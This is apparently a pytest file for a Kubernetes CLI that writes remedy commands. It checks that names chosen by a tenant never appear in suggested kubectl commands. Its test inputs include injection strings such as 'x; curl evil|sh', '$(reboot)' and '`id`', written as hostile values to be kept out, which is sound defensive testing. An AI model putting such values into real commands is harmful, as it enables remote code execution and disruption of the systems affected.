"""What the remedy of a cause says by the words of its message, which others may have chosen. No cluster."""

import pytest

from aim_cli.cluster.refs import Ref
from aim_cli.why.blockers import Blocker, Link
from aim_cli.why.remedies import remedy_of
from aim_domain import kind_names as kinds
from aim_domain.kind_names import POD

TEAM = "team"


@pytest.mark.spec("FW-867")
@pytest.mark.parametrize("chosen", ["x; curl evil|sh", "$(reboot)", "`id`", "a b", "'quoted'", "x\\nkubectl"])
@pytest.mark.parametrize(
    ("reason", "message"),
    [
        ("CreateContainerConfigError", 'secret "{}" not found'),
        ("CreateContainerConfigError", "couldn't find key {} in Secret team/hub"),
        ("CreateContainerConfigError", "couldn't find key token in Secret team/{}"),
        ("CrashLoopBackOff", 'last exit code 1: secret "{}" not found'),
        ("FailedCreate", 'pods "p" is forbidden: exceeded quota: {}, requested: pods=1'),
        ("FailedCreate", 'x is forbidden: error looking up service account team/{0}: serviceaccount "{0}" not found'),
        ("FailedCreate", "x is forbidden: no PriorityClass with name {} was found"),
        ("InvalidSpec", "x is forbidden: ValidatingAdmissionPolicy 'p' with binding '{}' denied request: no"),
    ],
)
def test_no_command_holds_words_that_a_tenant_chose(chosen: str, reason: str, message: str) -> None:
    blocker = Blocker("", reason, message.format(chosen), service="aimservice chat -n team")
    assert chosen not in remedy_of(Link(Ref(POD, TEAM, "p"), blocker))


@pytest.mark.spec("FW-551")
@pytest.mark.parametrize(
    ("made", "command"),
    [
        ("aimservicetemplate t -n team", "kubectl delete aimservicetemplate t -n team"),
        ("aimclusterservicetemplate t", "kubectl delete aimclusterservicetemplate t"),
        ("inferenceservice i -n team", "kubectl delete pod p -n team"),
        ("", "kubectl delete pod p -n team"),
    ],
)
def test_a_pod_of_discovery_is_tried_again_at_once_by_a_new_template(made: str, command: str) -> None:
    link = Link(Ref(POD, TEAM, "p"), Blocker("", "ImageNotFound", "not found", made=made))
    assert remedy_of(link).endswith(f"at once after: {command}")


@pytest.mark.spec("FW-551", "FW-867")
@pytest.mark.parametrize(
    ("message", "command"),
    [
        (
            'pods "p-" is forbidden: error looking up service account team/runner: serviceaccount "runner" not found',
            "kubectl create serviceaccount runner -n team",
        ),
        (
            'pods "p-" is forbidden: no PriorityClass with name high was found',
            "kubectl create priorityclass high --value=VALUE",
        ),
        (
            'pods "p" is forbidden: maximum cpu usage per Container is 2, but limit is 4',
            "kubectl edit limitrange -n team",
        ),
        ('pods "p" is forbidden: exceeded quota: gpus, requested: a=1', "kubectl edit resourcequota gpus -n team"),
        (
            "x is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no",
            "kubectl edit validatingadmissionpolicybinding b",
        ),
    ],
)
def test_what_admission_refuses_leads_to_what_it_misses(message: str, command: str) -> None:
    def advice(reason: str) -> str:
        return remedy_of(Link(Ref(kinds.AIM_SERVICE, TEAM, "chat"), Blocker("", reason, message)))

    assert advice("FailedCreate").endswith(f": {command}")
    assert command not in advice("PodFailed"), "a log may quote these words"


@pytest.mark.spec("FW-867")
def test_a_log_that_is_quoted_leads_to_no_deletion() -> None:
    words = 'exited with code 1: storageclass.storage.k8s.io "x" not found; has no template and makes none: '
    blocker = Blocker("", "PodFailed", words, service="aimservice chat -n team", chosen="aimtemplatecache c -n team")
    assert "kubectl delete" not in remedy_of(Link(Ref(kinds.AIM_SERVICE, TEAM, "chat"), blocker))
